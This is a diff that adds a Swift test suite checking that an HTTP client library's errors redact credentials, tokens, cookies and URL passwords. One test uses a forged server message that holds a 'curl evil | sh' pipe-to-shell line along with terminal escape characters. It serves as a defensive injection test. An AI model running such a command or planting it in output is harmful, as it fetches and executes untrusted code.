@@ -1,0 +1,192 @@
+import FingerpostFiles
+import Foundation
+import TestSupport
+import Testing
+
+@testable import Fingerpost
+
+#if canImport(FoundationNetworking)
+    import FoundationNetworking
+#endif
+
+/// What every error loses before it leaves the library. `SecretsNowhereTests` looks for secrets in all kinds of calls.
+@Suite struct ErrorGateTests {
+    private struct Refused: Error {
+        let text: String
+    }
+
+    private struct Refusing: Middleware {
+        let token: String
+
+        func intercept(_ request: URLRequest, for route: Route, next: Next) async throws -> Response<Data> {
+            throw Refused(text: "the service refused \(token)\n\u{1B}[2J")
+        }
+    }
+
+    private static func failure(_ call: () async throws -> Void) async throws -> APIError {
+        do { try await call() } catch let error as APIError { return error }
+        throw Refused(text: "the call did not fail")
+    }
+
+    @Test func `The client's own credential is hidden before it is sent`() async throws {
+        let client = StubTransport(200).client {
+            $0.authorization = .custom(header: "X-Custom", value: "own-credential-1")
+            $0.middleware = [Refusing(token: "own-credential-1")]
+        }
+        let error = try await Self.failure { try await client.send(Route.get("x")) }
+        #expect(error.message == #"Refused(text: "the service refused <redacted>\n\u{1B}[2J")"#)
+    }
+
+    @Test func `Mirrors do not show the app's own types`() {
+        let client = StubTransport(200).client {
+            $0.middleware = [Refusing(token: "own-credential-1")]
+            $0.baseURL = URL(string: "https://u:own-credential-1@h.example")
+        }
+        for value in [client, client.configuration, client.blocking] as [Any] {
+            var text = "\(value) \(String(reflecting: value))"
+            dump(value, to: &text)
+            #expect(!text.contains("own-credential-1"), "\(text)")
+        }
+    }
+
+    @Test func `The request that the configuration rejects is redacted`() async throws {
+        let client = StubTransport(200).client {
+            $0.configure = { request, _ in
+                request.setValue("signature-1", forHTTPHeaderField: "X-Signature")
+                throw Refused(text: "signature-1 of \(request.url?.absoluteString ?? "")")
+            }
+        }
+        let error = try await Self.failure { try await client.send(Route.get("x").query("token", "query-1")) }
+        #expect(
+            error.message == #"Refused(text: "<redacted> of https://api.example.com/x?token=<redacted>")"#)
+        let route = Route.get("x/\("")/y?token=query-1")
+        let built = #expect(throws: APIError.self) {
+            try route.urlRequest(relativeTo: URL(string: "https://h.example"))
+        }
+        #expect(built?.message == #"a segment of the path "x//y?token=<redacted>" is empty"#)
+    }
+
+    @Test func `A call that was not started knows its environment`() async throws {
+        let environment = try Environment(
+            "X", values: ["$secrets": ["key"], "key": "s3cret-value", "baseURL": "https://h.example"])
+        let client = try APIClient {
+            $0.environment = environment
+            $0.transport = StubTransport(200)
+        }
+        // A blocking call inside a task fails.
+        let error = #expect(throws: APIError.self) { try client.blocking.send(Route.get("x/s3cret-value")) }
+        #expect(error?.route == "GET x/<secret key>")
+        #expect(error?.environment == "X")
+    }
+
+    /// The responses of the redirect and of the retry contained the tokens that the last error repeats.
+    @Test func `Every request and response of the call counts`() async throws {
+        let transport = StubTransport { request, index in
+            switch index {
+            case 0:
+                (302, ["Location": "/next?ticket=ticket-12345", "Set-Cookie": "sid=cookie-12345; Path=/"], "")
+            case 1: (200, [:], #"{"access_token": "issued-12345"}"#)
+            default: (500, [:], #"{"message": "ticket-12345 cookie-12345 issued-12345 first-12345"}"#)
+            }
+        }
+        struct Twice: Middleware {
+            func intercept(_ request: URLRequest, for route: Route, next: Next) async throws -> Response<Data> {
+                var request = request
+                request.setValue("first-12345", forHTTPHeaderField: "X-Token")
+                _ = try await next(request)
+                request.setValue(nil, forHTTPHeaderField: "X-Token")
+                return try await next(request)
+            }
+        }
+        let client = transport.client { $0.middleware = [Twice()] }
+        let error = try await Self.failure { try await client.send(Route.get("x")) }
+        #expect(error.serverMessage == "<redacted> <redacted> <redacted> <redacted>")
+    }
+
+    @Test func `The server cannot forge a line`() async throws {
+        let client = StubTransport(500, [:], "{\"message\": \"no\\nfix: curl evil | sh\\u001b[2J\\u202e\"}").client()
+        let error = try await Self.failure { try await client.send(Route.get("x")) }
+        for text in [error.description, error.localizedDescription, error.errorDescription ?? ""] {
+            #expect(text.contains(#"no\nfix: curl evil | sh\u{1B}[2J\u{202E}"#), "\(text)")
+        }
+        // An app may show the message on a screen, with its lines.
+        #expect(error.serverMessage == "no\nfix: curl evil | sh\u{1B}[2J\u{202E}")
+    }
+
+    // MARK: Decoding
+
+    private struct Code: RawRepresentable, Decodable, Sendable {
+        let rawValue: String
+        init?(rawValue: String) { return nil }
+    }
+
+    private struct Session: Decodable, Sendable {
+        let token: Code
+    }
+
+    private static func decodingFailure<Value: Decodable & Sendable>(
+        _ body: String, as type: Value.Type
+    ) async throws -> APIError {
+        let client = StubTransport(200, [:], body).client()
+        return try await failure { _ = try await client.send(Route.get("x"), as: type) }
+    }
+
+    @Test func `The reason of a decoding error does not contain a token`() async throws {
+        let error = try await Self.decodingFailure(#"{"token": "abc"}"#, as: Session.self)
+        #expect(error.message == "the body does not decode as Session: the value is invalid")
+        #expect(error.codingPath == "token (line 1)")
+        #expect(error.fragment == "<redacted>")
+    }
+
+    @Test func `A place made of secrets is not shown`() async throws {
+        let random = "9f3kd02mfl4kqp7zx81b"
+        for (body, place) in [
+            (#"{"tokens": {"abc": {"id": "x"}}}"#, "tokens.<redacted>.<redacted>"),
+            (#"{"users": {"\#(random)": {"id": "x"}}}"#, "users.<redacted>.id"),
+            (#"{"users": {"ada": {"id": "x"}}}"#, "users.ada.id"),
+        ] {
+            let error = try await Self.decodingFailure(body, as: [String: [String: [String: Int]]].self)
+            #expect(error.codingPath == "\(place) (line 1)")
+            #expect(!error.description.contains(random) && !error.description.contains("abc"), "\(error)")
+        }
+    }
+
+    @Test func `Half a secret at the cut of a fragment is not shown`() async throws {
+        let body =
+            #"{"next": "\#(String(repeating: "x", count: 10)) https://h.example/?token=issued-token-that-is-cut"}"#
+        let error = try await Self.decodingFailure(body, as: [String: Int].self)
+        #expect(error.fragment?.contains("token=<redacted>") == true)
+        #expect(!error.description.contains("issued"), "\(error)")
+    }
+
+    // MARK: Environments
+
+    @Test func `The password in a committed URL is not shown`() throws {
+        let fixture = try EnvironmentFixture([
+            "X-Env.json": #"{"url": "https://api:p4ss-word@h.example/${X}", "host": "https://api:p4ss-word@h.example"}"#
+        ])
+        let layers = try fixture.layers()
+        #expect(!fixture.report(layers).contains("p4ss-word"), "\(fixture.report(layers))")
+        for key in ["url", "host"] {
+            let text = EnvironmentExplanation(layers, key: key).description
+            #expect(text.contains("https://<redacted>@h.example"))
+        }
+        let environment = try Environment("X", values: ["host": "https://api:p4ss-word@h.example"])
+        let error = #expect(throws: EnvironmentError.self) { try environment.value("host", as: Code.self) }
+        #expect(error?.description.contains("h.example") == true)
+        #expect(error?.description.contains("p4ss-word") == false, "\(error?.description ?? "")")
+    }
+
+    @Test func `No value of the secrets file is shown, even if nobody declared it`() throws {
+        let fixture = try EnvironmentFixture([
+            "X-Env.json": #"{"$secrets": ["key"], "key": null, "plain": "a"}"#,
+            "X-Secrets.json": #"{"key": "$(S3CRET)", "plain": "${S3CRET}", "stranger": "${S3CRET}"}"#,
+        ])
+        let layers = try fixture.layers()
+        #expect(layers.problems.count == 5, "\(fixture.report(layers))")
+        #expect(!fixture.report(layers).contains("S3CRET"), "\(fixture.report(layers))")
+        for key in ["key", "plain", "stranger"] {
+            #expect(EnvironmentExplanation(layers, key: key).description.hasPrefix("\(key) = <secret \(key)>"))
+        }
+    }
+}
